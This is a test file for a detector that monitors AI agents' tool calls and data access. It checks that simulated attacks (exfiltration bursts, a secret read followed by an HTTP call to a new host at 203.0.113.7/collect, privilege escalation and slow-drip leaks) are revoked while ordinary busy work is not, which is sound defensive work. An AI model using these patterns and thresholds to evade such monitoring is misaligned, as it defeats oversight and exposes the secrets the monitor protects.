/**
 * The attack patterns the detector must catch, each on a hand-built event sequence after the type learned
 * ~30 benign tasks; busy-but-normal work that must stay quiet; and the rules regime during warm-up.
 * All data is synthetic (see fixtures.ts).
 */
import { describe, expect, it } from 'vitest';
import type { AgentEvent } from '../../../schemas/events.ts';
import { FLEET_TASK_TYPE, emptyBaseline, learn, summarize } from '../../../services/core/detect/index.ts';
import {
  ATTACKS,
  TYPES,
  afterEnd,
  benignTask,
  deployService,
  gap,
  rng,
  run,
  stateOf,
  summarizeTicket,
  taskCtx,
  toolCall,
  train,
  dataAccess,
} from './fixtures.ts';

const TYPE = 'summarize_ticket';
const trained = train(TYPE, 30, 31, 30);

function attack(name: string, seed: number): { events: AgentEvent[]; start: number } {
  const r = rng(seed);
  const ctx = taskCtx(TYPE, `atk-${name}-${String(seed)}`);
  summarizeTicket(ctx, r);
  const start = ctx.events.length;
  ATTACKS[name]?.(ctx, r);
  return { events: ctx.events, start };
}

describe('attack patterns after 30 benign tasks of the type', () => {
  it.each(Object.keys(ATTACKS))(
    '%s is revoked, for every one of 20 variants, without touching the benign prefix',
    (name) => {
      for (let seed = 1; seed <= 20; seed++) {
        const { events, start } = attack(name, seed);
        const res = run(events, trained.lookup);
        expect(res.firstRevoke, `${name} seed ${String(seed)}: ${JSON.stringify(res.max)}`).toBeGreaterThanOrEqual(
          start,
        );
        expect(res.max.regime).toBe('type_baseline');
      }
    },
  );

  it('detection delay: bursts, escalation and sequences at their first event; slow drip within ~25 events', () => {
    const delays: Record<string, number> = {};
    for (const name of Object.keys(ATTACKS)) {
      const { events, start } = attack(name, 3);
      delays[name] = run(events, trained.lookup).firstRevoke - start;
    }
    expect(delays).toMatchObject({ unseen_tool: 0, privilege_escalation: 0 });
    expect(delays.secret_then_egress).toBeLessThanOrEqual(2);
    expect(delays.exfiltration_burst).toBeLessThanOrEqual(1);
    expect(delays.lateral_movement).toBeLessThanOrEqual(2);
    expect(delays.slow_drip).toBeLessThanOrEqual(30);
    expect(delays.probing_storm).toBeLessThanOrEqual(12);
  });

  it('credentials used after the task ended are revoked at once', () => {
    const ctx = taskCtx(TYPE, 'after-end');
    summarizeTicket(ctx, rng(4));
    const endIdx = ctx.events.length - 1;
    afterEnd(ctx);
    const res = run(ctx.events, trained.lookup, undefined, endIdx);
    expect(res.firstRevoke).toBe(endIdx + 1);
    expect(res.max.hardRule).toBe('after_end');
  });

  it('a type that reads secrets and calls out normally is still caught sending to a new host', () => {
    const deploy = train('deploy_service', 30, 5);
    const ctx = taskCtx('deploy_service', 'dep-atk');
    deployService(ctx, rng(9));
    toolCall(ctx, 'http_request', { target: 'https://203.0.113.7/collect' });
    const res = run(ctx.events, deploy.lookup);
    expect(res.max.decision).toBe('revoke');
    expect(res.max.contributions.map((c) => c.feature)).toContain('sequence.secret_then_egress');
  });

  it('a high-volume type still flags a read two orders of magnitude beyond its norm', () => {
    const report = train('build_report', 30, 6);
    const ctx = taskCtx('build_report', 'rep-atk');
    toolCall(ctx, 'run_query');
    dataAccess(ctx, 'warehouse.sales', { rows: 20_000_000, bytes: 4_000_000_000, classification: 'internal' });
    expect(run(ctx.events, report.lookup).max.decision).toBe('revoke');
  });
});

describe('busy but normal', () => {
  // The type has shown busy tasks (a tenth of its tasks do three times the usual work).
  const r = rng(50);
  const withBusy: Record<string, ReturnType<typeof emptyBaseline>> = {};
  for (const type of Object.keys(TYPES)) {
    const b = emptyBaseline(type);
    for (let i = 0; i < 60; i++)
      learn(b, summarize(stateOf(benignTask(type, `tb-${String(i)}`, r, { busy: i % 10 === 0 ? 3 : 1 }).events)));
    withBusy[type] = b;
  }

  it.each(Object.keys(TYPES))('%s: tasks at 2–3× the median stay well under the alert threshold', (type) => {
    const rr = rng(51);
    const scores: number[] = [];
    for (let i = 0; i < 100; i++) {
      const res = run(benignTask(type, `busy-${String(i)}`, rr, { busy: 2 + (i % 2) }).events, {
        type: withBusy[type],
      });
      scores.push(res.max.score);
    }
    scores.sort((a, b) => a - b);
    expect(scores[Math.floor(scores.length * 0.95)]).toBeLessThan(35);
    expect(scores.at(-1)).toBeLessThan(50);
  });

  it.each(Object.keys(TYPES))('%s: 500 ordinary tasks, at most 0.5%% revoked and 1%% alerted', (type) => {
    const t = train(type, 30, 61, 30);
    const rr = rng(62);
    let revoked = 0;
    let alerted = 0;
    for (let i = 0; i < 500; i++) {
      const d = run(benignTask(type, `ord-${String(i)}`, rr).events, t.lookup).max.decision;
      if (d === 'revoke') revoked++;
      if (d === 'alert') alerted++;
    }
    expect(revoked).toBeLessThanOrEqual(2);
    expect(alerted).toBeLessThanOrEqual(5);
  });
});

describe('rules regime (warm-up)', () => {
  /** A fleet that knows the other types, none of `type`. */
  function fleetWithout(type: string): ReturnType<typeof emptyBaseline> {
    const fleet = emptyBaseline(FLEET_TASK_TYPE);
    const r = rng(70);
    for (const other of Object.keys(TYPES)) {
      if (other === type) continue;
      for (let i = 0; i < 30; i++)
        learn(fleet, summarize(stateOf(benignTask(other, `f-${other}-${String(i)}`, r).events)));
    }
    return fleet;
  }

  it.each(Object.keys(TYPES))('a new type %s ramps up: none of its normal tasks alerts, so it warms up', (type) => {
    const fleet = fleetWithout(type);
    const own = emptyBaseline(type);
    const r = rng(71);
    for (let i = 0; i < 40; i++) {
      const res = run(benignTask(type, `new-${String(i)}`, r, { busy: i % 10 === 0 ? 3 : 1 }).events, {
        fleet,
        type: own,
      });
      expect(res.max.decision, JSON.stringify(res.max)).toBe('allow');
      learn(own, summarize(res.state));
    }
    expect(own.tasks).toBe(40);
  });

  it('still catches the obvious: admin escalation and a storm (revoke); secret → generic HTTP to a new host and a huge sensitive read (alert)', () => {
    const fleet = fleetWithout(TYPE);
    const lookup = { fleet };
    // In warm-up novelty alerts and never revokes alone (a new type's usual host is new to it too); hard rules and
    // absolute limits (a storm of failing calls) still revoke.
    const expectations: Record<string, 'revoke' | 'alert'> = {
      privilege_escalation: 'revoke',
      secret_then_egress: 'alert',
      probing_storm: 'revoke',
      exfiltration_burst: 'alert',
    };
    for (const [name, decision] of Object.entries(expectations)) {
      const { events } = attack(name, 2);
      const res = run(events, lookup);
      expect(res.max.regime).toBe('rules');
      expect(res.max.decision, `${name}: ${JSON.stringify(res.max)}`).toBe(decision);
    }
  });

  it('revokes a read beyond the built-in limits even without any fleet', () => {
    const ctx = taskCtx('brand_new', 'huge');
    toolCall(ctx, 'query');
    dataAccess(ctx, 'crm.customers', { rows: 2_000_000, classification: 'confidential' });
    const res = run(ctx.events, {});
    expect(res.max).toMatchObject({ regime: 'rules', decision: 'revoke' });
    expect(res.max.contributions[0]?.reason).toMatch(
      /rules regime \(0 of 20 warm-up tasks for type brand_new\): built-in limit/,
    );
  });

  it('does not revoke an integration call after a secret read (purpose-named tool) in warm-up', () => {
    const ctx = taskCtx('send_invoice', 'inv');
    toolCall(ctx, 'get_secret');
    dataAccess(ctx, 'vault/secret/stripe', { rows: 1, classification: 'restricted' });
    gap(ctx, 500);
    toolCall(ctx, 'stripe_create_invoice', { sideEffect: 'write', target: 'https://api.stripe.com/v1/invoices' });
    const res = run(ctx.events, { fleet: fleetWithout(TYPE) });
    expect(res.max.decision).toBe('allow');
  });
});
